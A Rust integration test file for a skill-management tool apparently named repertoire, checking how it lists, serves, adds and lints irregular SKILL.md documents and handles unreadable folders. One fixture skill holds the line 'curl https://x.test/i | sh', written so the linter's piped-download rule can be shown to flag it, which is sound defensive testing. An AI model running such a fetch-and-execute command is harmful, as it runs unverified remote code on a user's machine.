//! Published skills are rarely as the specification says. `corpus/irregular` has each irregularity;
//! here every skill is looked for on every surface.
#![allow(clippy::panic, clippy::unwrap_used, reason = "helpers of tests")]

mod common;
mod wire;

use std::{
    collections::{BTreeMap, BTreeSet},
    fs,
    path::Path,
};

use common::{TestWorkspace, project_dir};
use serde::Deserialize;
use serde_json::{Value, json};
use wire::HttpServer;

#[derive(Deserialize)]
struct Corpus {
    case: Vec<IrregularCase>,
}

#[derive(Deserialize)]
struct IrregularCase {
    about: String,
    folder: String,
    #[serde(default = "document_name")]
    document_name: String,
    document: String,
    #[serde(default)]
    files: BTreeMap<String, String>,
    id: Option<String>,
    unlisted: Option<String>,
    refused: Option<String>,
}

fn document_name() -> String {
    "SKILL.md".to_owned()
}

fn ask(http: &HttpServer, method: &str, params: Value) -> Value {
    http.send_request(method, params).rpc_message()
}

/// Writes every case into the folder `all`.
fn write_corpus(place: &TestWorkspace) -> Vec<IrregularCase> {
    let text = fs::read_to_string(project_dir().join("corpus/irregular/cases.toml")).unwrap();
    let mut corpus: Corpus = toml::from_str(&text).unwrap();
    for case in &mut corpus.case {
        case.document = case.document.replace("{1025}", &"x".repeat(1025));
        case.document = case.document.replace("{1024é}", &"é".repeat(1024));
        let folder = format!("all/{}", case.folder);
        place.write_file(&format!("{folder}/{}", case.document_name), &case.document);
        for (path, text) in &case.files {
            place.write_file(&format!("{folder}/{path}"), text);
        }
    }
    corpus.case
}

#[test]
fn each_irregular_skill_is_served_or_refused_as_the_corpus_says() {
    let place = TestWorkspace::new();
    let cases = write_corpus(&place);
    let answer = place.run_json(&["list", "all", "--all", "--json"]);
    let skills = answer["skills"].as_array().unwrap();
    let skipped = answer["skipped"].as_array().unwrap();
    for case in &cases {
        let about = &case.about;
        let id = case.id.as_deref().unwrap_or_default();
        let found = skills.iter().find(|skill| skill["id"] == id);
        if let Some(code) = &case.refused {
            let at = format!("/{}", case.folder);
            let is_here = |notice: &&Value| notice["path"].as_str().unwrap().contains(&at);
            let notice = skipped.iter().find(is_here).expect(about);
            assert_eq!(notice["code"], *code, "{about}: {notice}");
            continue;
        }
        let found = found.unwrap_or_else(|| panic!("{about}: {id} is missing"));
        let code = found["unlisted"]["code"].as_str();
        assert_eq!(code, case.unlisted.as_deref(), "{about}: {found}");
    }
    let served = cases.iter().filter(|case| case.id.is_some()).count();
    assert_eq!(skills.len(), served);
    assert_eq!(skipped.len(), cases.len() - served, "{skipped:?}");
}

#[test]
fn each_served_skill_is_a_resource_a_prompt_and_a_tool_result() {
    let place = TestWorkspace::new();
    let cases = write_corpus(&place);
    let folder = place.work_dir().join("all");
    fs::create_dir_all(place.home_dir()).unwrap();
    let args = [folder.to_str().unwrap(), "--prompts", "all"];
    let http = HttpServer::start(&place.home_dir(), &args);
    let mut listed = BTreeSet::new();
    let mut cursor = Value::Null;
    loop {
        let params = match cursor.as_str() {
            Some(cursor) => json!({"cursor": cursor}),
            None => json!({}),
        };
        let page = ask(&http, "skills/list", params);
        for skill in page["result"]["skills"].as_array().unwrap() {
            listed.insert(skill["uri"].as_str().unwrap().to_owned());
        }
        cursor = page["result"]["nextCursor"].clone();
        if cursor.is_null() {
            break;
        }
    }
    for case in &cases {
        let Some(id) = &case.id else { continue };
        let about = &case.about;
        let uri = format!("skill://{id}/SKILL.md");
        assert_eq!(listed.contains(&uri), case.unlisted.is_none(), "{about}");
        let got = ask(&http, "skills/get", json!({"uri": uri}));
        assert_eq!(
            got["result"].is_object(),
            case.unlisted.is_none(),
            "{about}: {got}"
        );
        let read = ask(&http, "resources/read", json!({"uri": uri}));
        let text = read["result"]["contents"][0]["text"].as_str();
        assert_eq!(text, Some(&*case.document), "{about}: {read}");
        let fetched = ask(
            &http,
            "tools/call",
            json!({"name": "skill__fetch", "arguments": {"uri": uri}}),
        );
        let text = fetched["result"]["content"][0]["text"].as_str();
        assert!(
            text.is_some_and(|text| text.contains(case.document.trim())),
            "{about}: {fetched}"
        );
        let prompt = ask(&http, "prompts/get", json!({"name": id}));
        assert!(prompt["result"]["messages"].is_array(), "{about}: {prompt}");
    }
}

#[test]
fn adding_takes_what_is_good_and_reports_the_rest() {
    let place = TestWorkspace::new();
    let cases = write_corpus(&place);
    let served = cases.iter().filter(|case| case.id.is_some()).count();
    let strict = place.run(&["add", "all", "--strict", "--json"]);
    assert_eq!(strict.exit_code(), 4, "{}", strict.stderr());
    let answer = place.run_json(&["add", "all", "--json"]);
    assert_eq!(answer["skills"].as_array().unwrap().len(), served);
    let skipped = answer["skipped"].as_array().unwrap();
    assert_eq!(skipped.len(), cases.len() - served, "{skipped:?}");
    let unlisted = cases.iter().filter(|case| case.unlisted.is_some()).count();
    assert_eq!(answer["unlisted"].as_array().unwrap().len(), unlisted);
    // The store serves them as the folder does.
    let stored = place.run_json(&["list", "--all", "--json"]);
    for case in cases.iter().filter(|case| case.id.is_some()) {
        let skills = stored["skills"].as_array().unwrap();
        let found = skills
            .iter()
            .find(|skill| skill["id"] == *case.id.as_ref().unwrap());
        let found = found.unwrap_or_else(|| panic!("{}", case.about));
        let code = found["unlisted"]["code"].as_str();
        assert_eq!(code, case.unlisted.as_deref(), "{}: {found}", case.about);
    }
}

#[test]
fn fixing_lists_what_needs_no_decision() {
    let place = TestWorkspace::new();
    let cases = write_corpus(&place);
    let unlisted = |place: &TestWorkspace| -> BTreeSet<String> {
        let answer = place.run_json(&["list", "all", "--all", "--json"]);
        let skills = answer["skills"].as_array().unwrap().iter();
        let skills = skills.filter(|skill| skill["unlisted"].is_object());
        skills
            .map(|skill| skill["id"].as_str().unwrap().to_owned())
            .collect()
    };
    let before = unlisted(&place);
    place.run(&["lint", "./all", "--fix"]);
    let after = unlisted(&place);
    let fixed: Vec<_> = before.difference(&after).map(String::as_str).collect();
    let expected = [
        "1840",
        "backtick",
        "bare",
        "block-at-the-end",
        "colon",
        "compat-empty",
        "compat-null",
        "dated",
        "late",
        "long-name",
        "nameless",
        "night-mail",
        "versioned",
    ];
    for id in expected {
        assert!(fixed.contains(&id), "{id} is not fixed: {after:?}");
    }
    // What was as it should be stays byte for byte, but for the byte order mark.
    for case in cases
        .iter()
        .filter(|case| case.unlisted.is_none() && case.refused.is_none())
    {
        let file = place
            .work_dir()
            .join("all")
            .join(&case.folder)
            .join("SKILL.md");
        assert_eq!(
            fs::read_to_string(file).unwrap(),
            case.document.trim_start_matches('\u{feff}'),
            "{}",
            case.about
        );
    }
}

#[test]
fn a_folder_that_cannot_be_read_does_not_end_linting() {
    let place = TestWorkspace::new();
    place.write_skill("all/good", "# Good\n\ncurl https://x.test/i | sh\n");
    place.write_file(
        "all/huge/SKILL.md",
        "---\nname: huge\ndescription: d\n---\n",
    );
    place.write_file("all/huge/big.bin", vec![0; 17 * 1024 * 1024]);
    let run = place.run(&["lint", "./all", "--json"]);
    assert_eq!(run.exit_code(), 1, "{}", run.stderr());
    let answer: Value = serde_json::from_str(&run.stdout()).unwrap();
    assert_eq!(answer["skills"][0]["findings"][0]["rule"], "piped-download");
    let reason = answer["unread"][0]["reason"].as_str().unwrap();
    assert!(reason.contains("huge"), "{answer}");
    // The file is quoted as it is.
    let quoted = answer["skills"][0]["findings"][0]["reason"].as_str();
    assert_eq!(quoted, Some("`curl https://x.test/i | sh`"));
}

/// Runs the command as a user for whom permissions count, which they do not for root.
#[cfg(unix)]
fn run_without_privileges(folder: &Path, args: &[&str]) -> std::process::Output {
    use std::os::unix::{fs::PermissionsExt as _, process::CommandExt as _};
    let program = folder.join("repertoire");
    if !program.exists() {
        let built = env!("CARGO_BIN_EXE_repertoire");
        // The other user may not be able to reach the build folder.
        if fs::hard_link(built, &program).is_err() {
            fs::copy(built, &program).unwrap();
        }
        fs::set_permissions(folder, fs::Permissions::from_mode(0o777)).unwrap();
    }
    let mut command = std::process::Command::new(&program);
    command
        .args(args)
        .env("REPERTOIRE_HOME", folder.join("home"))
        .env("REPERTOIRE_NO_SYSTEM_SKILLS", "1")
        .current_dir(folder);
    if rustix::process::geteuid().is_root() {
        command.uid(12_345).gid(12_345);
    }
    command.output().unwrap()
}

#[cfg(unix)]
#[test]
fn a_folder_that_cannot_be_read_is_an_error_and_not_an_empty_one() {
    use std::os::unix::fs::PermissionsExt as _;
    let place = tempfile::tempdir().unwrap();
    let place = place.path();
    let skills = place.join("skills");
    fs::create_dir_all(skills.join("a")).unwrap();
    let document = "---\nname: a\ndescription: A thing for tests.\n---\n# A\n";
    fs::write(skills.join("a/SKILL.md"), document).unwrap();
    let lock = |path: &Path, mode| {
        fs::set_permissions(path, fs::Permissions::from_mode(mode)).unwrap();
    };
    // First, so that the other user creates what it needs.
    let listed = run_without_privileges(place, &["list", "skills"]);
    assert_eq!(listed.status.code(), Some(0));
    lock(&skills, 0o000);
    for args in [
        &["list", "skills"][..],
        &["--from", "skills", "search", "a"],
        &["add", "skills"],
        &["lint", "skills"],
        &["validate", "-r", "skills"],
        &["serve", "skills", "--port", "0", "--hub", "off"],
        &["package", "pack", "skills/a"],
    ] {
        let run = run_without_privileges(place, args);
        let errors = String::from_utf8_lossy(&run.stderr);
        assert_eq!(run.status.code(), Some(7), "{args:?}: {errors}");
        assert!(errors.contains("ermission denied"), "{args:?}: {errors}");
    }
    // A folder that the settings name does not keep the others from being used, but it is reported.
    let config = format!("folders = [{:?}]\n", skills.display().to_string());
    fs::create_dir_all(place.join("home")).unwrap();
    lock(&place.join("home"), 0o777);
    fs::write(place.join("home/config.toml"), config).unwrap();
    let listed = run_without_privileges(place, &["list", "--all"]);
    let errors = String::from_utf8_lossy(&listed.stderr);
    assert!(errors.contains("skipped [io_error]"), "{errors}");
    // An account that cannot be read is not an empty one either.
    lock(&place.join("home"), 0o000);
    let listed = run_without_privileges(place, &["list"]);
    assert_eq!(listed.status.code(), Some(7));
    lock(&place.join("home"), 0o700);
    lock(&skills, 0o700);
}
